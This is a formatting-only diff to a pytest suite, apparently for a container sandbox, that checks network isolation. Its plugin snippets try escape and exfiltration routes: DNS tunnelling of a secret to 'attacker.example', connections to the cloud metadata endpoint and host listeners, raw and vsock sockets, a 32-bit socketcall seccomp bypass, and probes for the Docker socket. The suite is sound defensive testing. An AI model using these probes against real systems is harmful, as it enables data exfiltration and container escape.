@@ -25,14 +25,18 @@ pytestmark = pytest.mark.docker
 
 
 def test_tcp_to_an_outside_address_is_unreachable(sandbox: Any, tmp_path: Path) -> None:
-    plugin = preprocess(tmp_path, "net-outside", '''
+    plugin = preprocess(
+        tmp_path,
+        "net-outside",
+        """
         attempt("cloudflare", lambda: socket.create_connection(("1.1.1.1", 443), timeout=3).close())
         attempt("google_dns", lambda: socket.create_connection(("8.8.8.8", 53), timeout=3).close())
         attempt("ipv6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), timeout=3).close())
         # control: TCP itself works inside the container, on its own loopback
         server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
         attempt("own_loopback", lambda: socket.create_connection(server.getsockname(), timeout=3).close() or "ok")
-    ''')
+    """,
+    )
     out = run_compute(sandbox, plugin)
     assert out.result and out.result["ok"], out.stderr
     assert out.errno("cloudflare") == errno.ENETUNREACH
@@ -42,13 +46,17 @@ def test_tcp_to_an_outside_address_is_unreachable(sandbox: Any, tmp_path: Path) 
 
 
 def test_cloud_metadata_endpoint_is_unreachable(sandbox: Any, tmp_path: Path) -> None:
-    plugin = preprocess(tmp_path, "net-metadata", '''
+    plugin = preprocess(
+        tmp_path,
+        "net-metadata",
+        """
         attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), timeout=3).close())
         attempt("metadata_udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
             b"x", ("169.254.169.254", 80)))
         attempt("control_udp_loopback", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
             b"x", ("127.0.0.1", 9)))
-    ''')
+    """,
+    )
     out = run_compute(sandbox, plugin)
     assert out.errno("metadata") == errno.ENETUNREACH
     assert out.errno("metadata_udp") == errno.ENETUNREACH
@@ -56,18 +64,23 @@ def test_cloud_metadata_endpoint_is_unreachable(sandbox: Any, tmp_path: Path) ->
 
 
 def test_host_listeners_on_loopback_bridge_and_primary_ip_get_zero_connections(
-        sandbox: Any, docker_client: Any, tmp_path: Path, listeners: list[Listener]) -> None:
+    sandbox: Any, docker_client: Any, tmp_path: Path, listeners: list[Listener]
+) -> None:
     marker = secrets.token_hex(8)
     tcp = Listener("tcp", host="0.0.0.0")
     listeners.append(tcp)
     targets = host_addresses(docker_client)
-    plugin = preprocess(tmp_path, "net-host", f'''
+    plugin = preprocess(
+        tmp_path,
+        "net-host",
+        f'''
         for host in {targets!r}:
             def hit(host=host):
                 s = socket.create_connection((host, {tcp.port}), timeout=3)
                 s.sendall(b"{marker}"); s.close()
             attempt("tcp_" + host, hit)
-    ''')
+    ''',
+    )
     out = run_compute(sandbox, plugin)
     assert out.result and out.result["ok"], out.stderr
     assert out.errno("tcp_127.0.0.1") == errno.ECONNREFUSED  # its own loopback, not the host's
@@ -84,19 +97,24 @@ def test_host_listeners_on_loopback_bridge_and_primary_ip_get_zero_connections(
 
 
 def test_dns_lookup_fails_and_no_query_reaches_a_host_resolver(
-        sandbox: Any, docker_client: Any, tmp_path: Path, listeners: list[Listener]) -> None:
+    sandbox: Any, docker_client: Any, tmp_path: Path, listeners: list[Listener]
+) -> None:
     marker = secrets.token_hex(8)
     dns = Listener("udp", port=53)
     listeners.append(dns)
     targets = [h for h in host_addresses(docker_client) if h != "127.0.0.1"]
-    plugin = preprocess(tmp_path, "net-dns", f'''
+    plugin = preprocess(
+        tmp_path,
+        "net-dns",
+        f'''
         secret = str(df["secret"].iloc[0]).encode().hex()[:40]
         attempt("tunnel", lambda: socket.getaddrinfo(secret + ".{marker}.attacker.example", 53))
         attempt("localhost", lambda: socket.getaddrinfo("localhost", 80)[0][4][0])
         for host in {targets!r}:
             attempt("udp_" + host, lambda host=host: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                 b"{marker}" + secret.encode(), (host, {dns.port})))
-    ''')
+    ''',
+    )
     out = run_compute(sandbox, plugin)
     assert out.obs["tunnel"]["type"] == "gaierror"
     assert out.ok("localhost") in ("127.0.0.1", "::1")  # control: /etc/hosts works, the resolver does not
@@ -111,11 +129,15 @@ def test_dns_lookup_fails_and_no_query_reaches_a_host_resolver(
 
 
 def test_only_the_loopback_interface_exists(sandbox: Any, tmp_path: Path) -> None:
-    plugin = preprocess(tmp_path, "net-interfaces", '''
+    plugin = preprocess(
+        tmp_path,
+        "net-interfaces",
+        """
         attempt("interfaces", lambda: [name for _, name in socket.if_nameindex()])
         attempt("routes", lambda: open("/proc/net/route").read().splitlines()[1:])
         attempt("hostname", lambda: socket.gethostname())
-    ''')
+    """,
+    )
     out = run_compute(sandbox, plugin)
     assert out.ok("interfaces") == ["lo"]
     assert out.ok("routes") == []
@@ -123,12 +145,16 @@ def test_only_the_loopback_interface_exists(sandbox: Any, tmp_path: Path) -> Non
 
 
 def test_raw_and_packet_sockets_are_refused(sandbox: Any, tmp_path: Path) -> None:
-    plugin = preprocess(tmp_path, "net-raw", '''
+    plugin = preprocess(
+        tmp_path,
+        "net-raw",
+        """
         attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
         attempt("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
         attempt("raw_tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
         attempt("control_dgram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close() or "ok")
-    ''')
+    """,
+    )
     out = run_compute(sandbox, plugin)
     for name in ("packet", "raw_icmp", "raw_tcp"):
         assert out.errno(name) == errno.EPERM, name  # no CAP_NET_RAW
@@ -142,7 +168,10 @@ def test_vsock_sockets_are_refused(sandbox: Any, tmp_path: Path) -> None:
     passes its own profile (cleanroom/runner/seccomp.json), which refuses it on every engine. Only
     the socket is made: the attack never connects anywhere.
     """
-    plugin = preprocess(tmp_path, "net-vsock", '''
+    plugin = preprocess(
+        tmp_path,
+        "net-vsock",
+        """
         for kind in ("SOCK_STREAM", "SOCK_DGRAM", "SOCK_SEQPACKET"):
             attempt("vsock_" + kind, lambda kind=kind: socket.socket(40, getattr(socket, kind)).close() or "created")
         attempt("alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET).close() or "created")  # AF_ALG
@@ -150,7 +179,8 @@ def test_vsock_sockets_are_refused(sandbox: Any, tmp_path: Path) -> None:
         attempt("control_unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close() or "created")
         attempt("control_inet", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).close() or "created")
         attempt("control_inet6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).close() or "created")
-    ''')
+    """,
+    )
     out = run_compute(sandbox, plugin)
     for name in ("control_unix", "control_inet", "control_inet6"):
         assert out.ok(name) == "created", name
@@ -160,7 +190,7 @@ def test_vsock_sockets_are_refused(sandbox: Any, tmp_path: Path) -> None:
 
 
 # The 32-bit socketcall(2) attack: x86_64 machine code run in a forked child (a crash stays there).
-SOCKETCALL_VSOCK = '''
+SOCKETCALL_VSOCK = """
     import ctypes, mmap, struct
     libc = ctypes.CDLL(None, use_errno=True)
     libc.mmap.restype = ctypes.c_void_p
@@ -191,11 +221,12 @@ SOCKETCALL_VSOCK = '''
 
     attempt("socketcall_vsock", lambda: in_child(INT80))
     attempt("control_native_unix", lambda: in_child(NATIVE))
-'''
+"""
 
 
-def test_vsock_through_the_32_bit_socketcall_is_refused(sandbox: Any, tmp_path: Path,
-                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+def test_vsock_through_the_32_bit_socketcall_is_refused(
+    sandbox: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """socketcall(2) hides the address family behind a pointer, so seccomp cannot see AF_VSOCK there.
 
     Docker's profile allows the 32-bit ABI (`int 0x80` from a 64-bit process): with its archMap the
@@ -225,7 +256,10 @@ def test_vsock_through_the_32_bit_socketcall_is_refused(sandbox: Any, tmp_path: 
 def test_abstract_unix_socket_cannot_rendezvous_with_a_concurrent_job(sandbox: Any, tmp_path: Path) -> None:
     name = "cleanroom-rdv-" + secrets.token_hex(6)
     # job A binds the abstract name, proves it can reach itself (control), then waits for a visitor
-    job_a = preprocess(tmp_path, "net-rdv-a", f'''
+    job_a = preprocess(
+        tmp_path,
+        "net-rdv-a",
+        f"""
         srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
         srv.bind("\\0{name}"); srv.listen(4); srv.settimeout(0.2)
         def self_connect():
@@ -239,13 +273,18 @@ def test_abstract_unix_socket_cannot_rendezvous_with_a_concurrent_job(sandbox: A
             except OSError:
                 pass
         OBS["visitors"] = {{"ok": True, "value": visitors}}
-    ''')
-    job_b = preprocess(tmp_path, "net-rdv-b", f'''
+    """,
+    )
+    job_b = preprocess(
+        tmp_path,
+        "net-rdv-b",
+        f"""
         time.sleep(3)  # A listens by now
         def visit():
             s = socket.socket(socket.AF_UNIX); s.connect("\\0{name}"); s.sendall(b"visitor-b")
         attempt("visit", visit)
-    ''')
+    """,
+    )
     results: dict[str, Any] = {}
     thread = threading.Thread(target=lambda: results.update(a=run_compute(sandbox, job_a)))
     thread.start()
@@ -258,7 +297,10 @@ def test_abstract_unix_socket_cannot_rendezvous_with_a_concurrent_job(sandbox: A
 
 
 def test_no_docker_or_containerd_socket_is_reachable(sandbox: Any, tmp_path: Path) -> None:
-    plugin = preprocess(tmp_path, "net-docker-sock", '''
+    plugin = preprocess(
+        tmp_path,
+        "net-docker-sock",
+        """
         import stat
         for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                      "/var/run/crio/crio.sock", "/run/podman/podman.sock", "/run/user/0/docker.sock"):
@@ -278,7 +320,8 @@ def test_no_docker_or_containerd_socket_is_reachable(sandbox: Any, tmp_path: Pat
                 except OSError:
                     pass
         OBS["sockets"] = {"ok": True, "value": sorted(found)}
-    ''')
+    """,
+    )
     out = run_compute(sandbox, plugin, timeout=120)
     for key in [k for k in out.obs if k.startswith("sock_")]:
         assert out.errno(key) in (errno.ENOENT, errno.EACCES), key
